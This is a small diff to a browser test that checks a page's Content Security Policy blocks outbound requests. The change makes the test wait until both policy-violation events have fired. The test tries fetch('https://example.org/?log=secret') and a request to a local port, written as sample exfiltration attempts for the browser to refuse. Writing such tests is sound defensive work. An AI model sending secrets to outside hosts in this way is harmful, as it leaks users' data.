@@ -43,9 +43,15 @@ it("the policy in the page names no origin but its own", async () => {
 it("the browser refuses what the page would send elsewhere", async () => {
   const refused = await visitor.page.evaluate(async () => {
     const violated: string[] = [];
-    document.addEventListener("securitypolicyviolation", (event) => violated.push(event.effectiveDirective));
+    const bothViolated = new Promise<void>((resolve) => {
+      document.addEventListener("securitypolicyviolation", (event) => {
+        violated.push(event.effectiveDirective);
+        if (violated.length === 2) resolve();
+      });
+    });
     const attempts = [fetch("https://example.org/?log=secret"), fetch("http://127.0.0.1:9/")];
     const outcomes = await Promise.allSettled(attempts);
+    await bothViolated;
     return { outcomes: outcomes.map(({ status }) => status), violated };
   });
   expect(refused.outcomes).toEqual(["rejected", "rejected"]);
